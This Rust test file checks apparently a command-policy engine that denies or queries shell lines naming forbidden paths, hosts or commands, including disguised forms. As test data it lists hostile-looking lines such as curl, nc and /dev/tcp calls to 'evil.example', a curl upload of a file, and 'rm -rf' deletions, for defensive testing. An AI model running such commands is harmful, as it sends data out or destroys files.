//! POL-04: a `deny` of a path, a host or a command holds wherever a command line names it, and where it may be among what
//! a line does without being named, the line asks.

use taffrail_domain::{Action, Answer, Held, Mode};

use super::{context, line};
use crate::{RuleSpec, Rules, decide};

fn rules(pattern: &str) -> Rules {
    let rule = RuleSpec {
        name: "mine".to_owned(),
        answer: Answer::Deny,
        command: Vec::new(),
        path: None,
        host: None,
        risk: None,
        destructive: false,
        foreign: false,
        matches: Vec::new(),
        not_matches: Vec::new(),
    };
    let (kind, pattern) = pattern.split_once(' ').unwrap();
    let example = pattern.replace("**", "a");
    let rule = match kind {
        "path" => RuleSpec {
            path: Some(pattern.to_owned()),
            ..rule
        },
        "host" => RuleSpec {
            host: Some(pattern.to_owned()),
            ..rule
        },
        _ => RuleSpec {
            command: pattern.split(' ').map(str::to_owned).collect(),
            ..rule
        },
    };
    let matches = vec![example];
    Rules::new(vec![RuleSpec { matches, ..rule }]).unwrap()
}

/// The answers of `auto`, the mildest mode, with the rule; each line is let through there without it.
fn expect(rule: &str, expected: Answer, lines: &[&str]) {
    let rules = rules(rule);
    let mut wrong = Vec::new();
    for command in lines {
        let action = Action::Shell {
            command: command.as_bytes().to_vec(),
            paths: Vec::new(),
        };
        let found = decide(&action, Mode::Auto, &rules, &context(Held::Sandboxed));
        let without = line(command.as_bytes(), Mode::Auto, Held::Sandboxed);
        assert_eq!(without.answer, Answer::Allow, "{command} without the rule");
        if found.answer != expected {
            wrong.push(format!("{command}: {} {:?}", found.answer, found.reasons));
        }
    }
    assert!(wrong.is_empty(), "{rule}\n{}", wrong.join("\n"));
}

#[test]
fn pol_04_a_path_is_denied_wherever_a_line_names_it() {
    expect(
        "path migrations/**",
        Answer::Deny,
        &[
            "cat migrations/1.sql",
            "cat ./x/../migrations/1.sql",
            "cat /home/u/project/migrations/1.sql",
            "cat 'migrations/1.sql'",
            "echo x > migrations/1.sql",
            "echo x >> migrations/a/1.sql",
            "wc -l < migrations/1.sql",
            "bash -c 'echo x > migrations/1.sql'",
            "sh <<< 'echo x > migrations/1.sql'",
            "cd migrations && cat 1.sql",
            "cd migrations && rm 1.sql",
            "cp a --target-directory=migrations/x",
            "dd if=a of=migrations/1.sql",
            "psql -fmigrations/1.sql",
            "curl -d @migrations/1.sql https://x.example",
            "python3 -c \"open('migrations/1.sql', 'w')\"",
            "rm migrations/*",
            "rm -rf migrations",
            "find migrations -type f",
            "echo $(cat migrations/1.sql)",
            "cat migra\\\ntions/1.sql",
        ],
    );
}

#[test]
fn pol_04_a_path_that_may_be_among_what_a_line_does_asks() {
    let lines = [
        "cat $FILE",
        "rm \"$X\"",
        "grep -r x .",
        "grep -r x",
        "rg x",
        "rm -rf .",
        "cp -r . /home/u/project/b",
        "tar czf a.tgz .",
        "find . -type f -delete",
        "find -exec cat {} +",
        "ls | xargs cat",
        "xargs cat < list",
    ];
    expect("path migrations/**", Answer::Ask, &lines);
    let patterns = ["cat migra*/1.sql", "cat */1.sql"];
    expect("path migrations/**", Answer::Ask, &patterns);
    expect("path **/*.sql", Answer::Ask, &lines);
}

#[test]
fn pol_04_a_path_that_cannot_be_meant_is_not_in_the_way() {
    expect(
        "path migrations/**",
        Answer::Allow,
        &[
            "cat src/1.sql",
            "cat src/migrations2/1.sql",
            "cat src/$FILE",
            "echo $FILE",
            "rg x src",
            "grep x README.md",
            "rm -rf target",
            "ls",
            "find . -type f",
            "git commit -m 'see migrations/1.sql'",
            "echo x > migrations.txt",
        ],
    );
}

#[test]
fn pol_04_a_host_is_denied_wherever_a_line_names_it() {
    expect(
        "host evil.example",
        Answer::Deny,
        &[
            "curl https://evil.example/x",
            "curl evil.example",
            "curl -x evil.example:80 https://a.example",
            "wget http://u:p@EVIL.example:8080/",
            "ssh me@evil.example",
            "ping evil.example.",
            "nc evil.example 80",
            "git clone git@evil.example:a/b",
            "bash -c 'curl https://evil.example'",
            "python3 -c \"urllib.request.urlopen('http://evil.example')\"",
            "echo x > /dev/tcp/evil.example/80",
            "./fetch https://evil.example",
            "psql -h evil.example",
            "docker -H evil.example:2375 ps",
            "ssh -Jevil.example a",
            "mount -t nfs evil.example:/x /y",
        ],
    );
    expect(
        "host evil.example",
        Answer::Allow,
        &[
            "curl https://good.example",
            "curl https://not-evil.example",
            "echo evil.example",
            "git commit -m 'no more of evil.example'",
        ],
    );
}

#[test]
fn pol_04_a_command_is_denied_wherever_it_is_handed_on() {
    expect(
        "command git push",
        Answer::Deny,
        &[
            "git push",
            "GIT push",
            "git.exe push",
            "git pu\\\nsh",
            "ssh h git push",
            "ssh h 'cd a && git push'",
            "docker exec a git -C x push",
            "tmux new -d 'git push'",
            "alias p='git push'",
            "watchexec -- git push",
            "hyperfine 'git push'",
            // Behind a flag that is not known, which may have a value.
            "env -C sub git push",
            "env -iu A git push",
            "/usr/bin/time -f x git push",
            "xargs --max-args 1 git push",
            "script -q /dev/null git push",
            "fd . -X git push",
            // Subcommands that are given a command.
            "git submodule foreach 'git push'",
            "git bisect run git push",
            "git rebase --exec 'git push' HEAD~1",
        ],
    );
    expect(
        "command git push",
        Answer::Ask,
        &[
            "git $X",
            "$X push",
            "git \"$X\" origin",
            "echo push | xargs git",
            "xargs git < f",
        ],
    );
    expect(
        "command git push",
        Answer::Allow,
        &[
            "git commit -m \"$MESSAGE\"",
            "git -C \"$FOLDER\" fetch",
            "ssh h git fetch",
            "cargo $X",
            "echo git push",
            "env -u X git fetch",
            "git rebase main",
            "git submodule update",
            "git commit -m 'git push'",
            "ls | xargs cat",
        ],
    );
}
